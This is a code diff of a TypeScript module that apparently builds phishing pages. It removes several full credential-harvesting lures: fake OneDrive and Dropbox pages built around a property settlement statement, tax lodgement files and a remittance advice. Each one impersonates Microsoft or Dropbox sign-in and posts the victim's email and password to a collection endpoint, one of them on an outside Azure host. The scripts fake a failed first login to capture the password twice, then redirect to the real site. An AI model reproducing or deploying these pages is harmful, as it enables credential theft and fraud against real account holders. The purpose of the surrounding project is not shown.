@@ -2,79 +2,6 @@ import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
 import { beepWav, fileRoute, jsonRoute } from '../parts/e-bin.js';
 import { b64, blurredDoc, googleG, msBoxCss, msLogo, msSquares, pctAll } from '../parts/yf-kit.js';
 
-// Shared-document, voicemail and e-signature lures that end in a Microsoft 365 / Google / Dropbox sign-in.
-
-const spDrive = `<!DOCTYPE html>
-<html lang="en">
-<head>
-<meta charset="utf-8">
-<meta name="viewport" content="width=device-width, initial-scale=1">
-<title>Settlement Statement - 14 Kent St.pdf - OneDrive</title>
-<link rel="icon" href="data:image/x-icon;base64,AAABAAEAEBAAAAEAIABoBAAAFgAAACgAAAAQAAAAIAAAAAEAIAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAA=">
-<style>
-${msBoxCss}
-.suite{height:48px;background:#0364b8;color:#fff;display:flex;align-items:center;padding:0 16px;font-size:16px;font-weight:600;position:fixed;top:0;left:0;right:0;z-index:3}
-.suite .waffle{width:48px;font-size:20px}
-.file{position:fixed;inset:48px 0 0 0;background:#f3f2f1;z-index:0}
-.file .page{width:620px;height:820px;background:#fff;margin:30px auto;filter:blur(4px);padding:50px;font-family:Georgia,serif;color:#444}
-.veil{position:fixed;inset:48px 0 0 0;background:rgba(255,255,255,.35);z-index:1}
-.outer{position:relative;z-index:2}
-.share{display:flex;gap:10px;align-items:center;margin:8px 0 20px;font-size:13px;color:#605e5c}
-.share .pdf{width:36px;height:44px;background:#d13438;color:#fff;font-size:10px;font-weight:700;display:flex;align-items:flex-end;justify-content:center;padding-bottom:4px}
-</style>
-</head>
-<body>
-<div class="suite"><span class="waffle">&#9783;</span>OneDrive</div>
-<div class="file"><div class="page"><h2>SETTLEMENT STATEMENT</h2><p>Vendor: R &amp; K Nguyen</p><p>Purchaser: L. Fitzgerald</p><p>Property: 14 Kent Street, Newtown NSW 2042</p><p>Settlement date: 28 March 2024</p><p>Balance due to vendor on settlement ........ $1,184,250.00</p><p>Less deposit held in trust ........ $128,500.00</p><p>Adjustments: council rates, water, strata levies</p></div></div>
-<div class="veil"></div>
-<div class="outer"><div class="middle">
-<div class="box" id="box">
-  ${msLogo}
-  <div class="share"><div class="pdf">PDF</div><div><b style="color:#1b1b1b">Settlement Statement - 14 Kent St.pdf</b><br>Jessica Morris shared this file with you</div></div>
-  <div id="step1">
-    <div class="title">Sign in</div>
-    <div class="small" style="margin-bottom:14px">This file is protected. Verify your work account to open it.</div>
-    <div class="err" id="e1">Enter a valid email address, phone number, or Skype name.</div>
-    <input type="email" id="em" placeholder="Email, phone, or Skype" autocomplete="username">
-    <div class="small">No account? <a href="#">Create one!</a></div>
-    <div class="row-btn"><button class="btn-primary" id="next">Next</button></div>
-  </div>
-  <div id="step2" style="display:none">
-    <div class="identity"><span class="back" id="back">&#8592;</span><span id="who"></span></div>
-    <div class="title">Enter password</div>
-    <div class="err" id="e2">Your account or password is incorrect. If you don't remember your password, <a href="#">reset it now.</a></div>
-    <input type="password" id="pw" placeholder="Password" autocomplete="current-password">
-    <div><a href="#">Forgot my password</a></div>
-    <div class="row-btn"><button class="btn-primary" id="signin">Sign in</button></div>
-  </div>
-</div>
-</div></div>
-<div class="footer"><a href="#">Terms of use</a><a href="#">Privacy &amp; cookies</a><a href="#">...</a></div>
-<script>
-(function(){
-  var tries = 0, em = document.getElementById('em'), pw = document.getElementById('pw');
-  var q = new URLSearchParams(location.search); if (q.get('u')) em.value = q.get('u');
-  document.getElementById('next').onclick = function(){
-    var v = em.value.trim();
-    if (!/^[^@\\s]+@[^@\\s]+\\.[^@\\s]+$/.test(v)) { document.getElementById('e1').style.display='block'; return; }
-    document.getElementById('who').textContent = v;
-    document.getElementById('step1').style.display='none'; document.getElementById('step2').style.display='block'; pw.focus();
-  };
-  document.getElementById('back').onclick = function(){ document.getElementById('step2').style.display='none'; document.getElementById('step1').style.display='block'; };
-  document.getElementById('signin').onclick = function(){
-    if (!pw.value) return;
-    tries++;
-    var fd = new FormData(); fd.append('ai', em.value); fd.append('pr', pw.value); fd.append('attempt', tries); fd.append('doc', 'settlement-kent-st');
-    fetch('/api/sp/verify.php', {method:'POST', body: fd}).then(function(r){return r.json()}).then(function(j){
-      if (tries < 2) { pw.value=''; document.getElementById('e2').style.display='block'; return; }
-      location.href = j.redirect || 'https://www.office.com/';
-    }).catch(function(){ document.getElementById('e2').style.display='block'; });
-  };
-})();
-</script>
-</body>
-</html>`;
-
 const tgLogin = `<!DOCTYPE html>
 <html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
 <title>Sign in to your account</title>
@@ -119,77 +46,6 @@ document.getElementById('f').addEventListener('submit', function(ev){
 });
 </script>
 </body></html>`;
-
-const dbxPage = `<!DOCTYPE html>
-<html lang="en">
-<head>
-<meta charset="utf-8">
-<meta name="viewport" content="width=device-width, initial-scale=1">
-<title>Dropbox - Q3 BAS Lodgement - Simplify your life</title>
-<style>
-body{margin:0;font-family:"Atlas Grotesk","Sharp Grotesk",Helvetica,Arial,sans-serif;background:#f7f5f2;color:#1e1919}
-header{background:#fff;border-bottom:1px solid #e6e2dd;height:64px;display:flex;align-items:center;padding:0 28px;gap:10px;font-weight:700;font-size:20px;color:#0061fe}
-.wrap{max-width:880px;margin:40px auto;background:#fff;border:1px solid #e6e2dd;border-radius:8px;padding:32px}
-h1{font-size:24px;margin:0 0 6px}
-.meta{color:#736c64;font-size:14px;margin-bottom:22px}
-.files{border-top:1px solid #eee}
-.files div{display:flex;justify-content:space-between;padding:14px 4px;border-bottom:1px solid #eee;font-size:15px}
-.files span.ic{display:inline-block;width:26px;height:30px;background:#e8f0fe;border:1px solid #c9d7f8;margin-right:10px;vertical-align:middle}
-.cta{margin-top:26px;text-align:center}
-.cta p{color:#52493f}
-.prov{display:grid;grid-template-columns:repeat(auto-fit,minmax(160px,1fr));gap:12px;margin-top:14px}
-.prov button{padding:13px;border:1px solid #cfc8bf;background:#fff;border-radius:4px;font-size:15px;cursor:pointer}
-.prov button:hover{background:#f1efec}
-#modal{display:none;position:fixed;inset:0;background:rgba(0,0,0,.45)}
-#modal .card{width:380px;margin:12vh auto;background:#fff;border-radius:8px;padding:28px}
-#modal input{width:100%;padding:11px;margin:8px 0;border:1px solid #bbb;border-radius:4px;font-size:15px;box-sizing:border-box}
-#modal .go{width:100%;padding:12px;background:#0061fe;color:#fff;border:0;border-radius:4px;font-size:16px;margin-top:6px}
-#msg{color:#c4111b;font-size:14px;display:none}
-</style>
-</head>
-<body>
-<header><svg width="32" height="28" viewBox="0 0 43 40"><path fill="#0061fe" d="M12.5 0L0 8.1l8.7 7L21.2 7.3zM0 21.9l12.5 8.2 8.7-7.3-12.5-7.8zm21.2.9l8.7 7.3 12.4-8.2-8.6-6.9zm21.2-14.7L29.9 0l-8.7 7.3 12.5 7.8zM21.2 24.4l-8.7 7.2-3.7-2.4v2.7l12.4 7.5 12.5-7.5v-2.7l-3.7 2.4z"/></svg>Dropbox</header>
-<div class="wrap">
-<h1>Q3 BAS Lodgement</h1>
-<div class="meta">Shared by Michelle Tran (Tran &amp; Associates Chartered Accountants) &middot; 3 files &middot; Expires in 2 days</div>
-<div class="files">
-<div><span><span class="ic"></span>BAS_Q3_FY24_Draft.pdf</span><span>412 KB</span></div>
-<div><span><span class="ic"></span>GST_Reconciliation_Mar24.xlsx</span><span>88 KB</span></div>
-<div><span><span class="ic"></span>Client_Authority_Form.docx</span><span>41 KB</span></div>
-</div>
-<div class="cta">
-<p><b>To download these files, confirm your identity with your email provider.</b></p>
-<div class="prov">
-<button data-p="Office 365">Office 365</button><button data-p="Outlook">Outlook</button><button data-p="Gmail">Gmail</button><button data-p="Yahoo">Yahoo</button><button data-p="Other">Other Mail</button>
-</div>
-</div>
-</div>
-<div id="modal"><div class="card">
-<h3 id="ptitle">Sign in</h3>
-<div id="msg">Invalid password. Please enter correct details.</div>
-<input type="email" id="u" placeholder="Email address">
-<input type="password" id="p" placeholder="Password">
-<button class="go" id="go">Download files</button>
-</div></div>
-<script>
-var prov = '', n = 0;
-document.querySelectorAll('.prov button').forEach(function(b){ b.onclick = function(){ prov = b.getAttribute('data-p'); document.getElementById('ptitle').textContent = 'Sign in with ' + prov; document.getElementById('modal').style.display = 'block'; }; });
-document.getElementById('go').onclick = function(){
-  var u = document.getElementById('u').value, p = document.getElementById('p').value;
-  if (!u || !p) return;
-  n++;
-  var x = new XMLHttpRequest();
-  x.open('POST', '/transfer/next.php', true);
-  x.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded');
-  x.onload = function(){
-    if (n === 1) { document.getElementById('msg').style.display = 'block'; document.getElementById('p').value = ''; }
-    else { document.getElementById('go').textContent = 'Preparing download...'; setTimeout(function(){ location.href = 'https://www.dropbox.com/'; }, 1800); }
-  };
-  x.send('provider=' + encodeURIComponent(prov) + '&email=' + encodeURIComponent(u) + '&password=' + encodeURIComponent(p) + '&n=' + n);
-};
-</script>
-</body>
-</html>`;
 
 const vmLogin = `<!DOCTYPE html>
 <html lang="en-AU"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
@@ -321,36 +177,6 @@ button{width:100%;margin-top:20px;padding:11px;background:#1a73e8;border:0;color
 <p style="font-size:12px;margin-top:16px">Protected by ShareFile. Your email password is required to decrypt files shared with your address.</p>
 </div>
 </body></html>`;
-
-const odKit = `<!DOCTYPE html>
-<html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
-<title>OneDrive | Secure File Viewer</title>
-<style>${msBoxCss}
-body{background:#faf9f8}
-</style></head><body>
-${blurredDoc('REMITTANCE ADVICE', ['Payment reference: EFT 558201', 'Payer: Lakeside Property Management Pty Ltd', 'Amount: $24,870.00 AUD', 'Paid to BSB 063-000 account ****4417'])}
-<div class="outer" style="position:relative;z-index:2"><div class="middle">
-<div class="box">
-${msLogo}
-<div class="title">Verify to view</div>
-<p class="small">You've received a secure file via OneDrive for Business. Enter your Microsoft 365 credentials to view the Remittance Advice.</p>
-<form id="odf" method="POST" action="https://odsp-viewer-7731.azurewebsites.net/onedrive/post">
-<input type="email" name="email" placeholder="Email address" required>
-<input type="password" name="pass" placeholder="Password" required>
-<div class="row-btn"><button type="submit" class="btn-primary">View Document</button></div>
-</form>
-</div></div></div>
-</body></html>`;
-
-const gateKit = `<div class="box" style="position:relative;z-index:2">
-${msLogo}
-<div class="identity"><span id="addr"></span></div>
-<div class="title">Enter password</div>
-<div class="err" id="er">Your account or password is incorrect.</div>
-<input type="password" id="pp" placeholder="Password">
-<div><a href="#">Forgot my password</a></div>
-<div class="row-btn"><button class="btn-primary" id="sb">Sign in</button></div>
-</div>`;
 
 const owaHtml = `<div id="mainLogonDiv" class="mouse">
 <div class="sidebar"><div class="owaLogoContainer"><div class="owaLogo" style="font-size:42px;color:#fff;font-weight:200">Outlook</div></div></div>
